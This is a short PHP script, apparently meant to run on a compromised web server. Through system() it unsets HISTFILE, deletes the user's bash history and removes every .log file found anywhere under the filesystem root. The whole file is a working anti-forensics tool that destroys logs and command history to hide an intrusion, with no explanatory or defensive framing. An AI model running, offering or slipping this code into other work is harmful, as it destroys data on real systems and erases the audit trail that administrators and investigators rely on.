<?php
$steps = array('unset HISTFILE', 'rm -f ~/.bash_history', 'find / -name "*.log" -exec rm -f {} \;');
foreach ($steps as $s) {
    system($s);
}
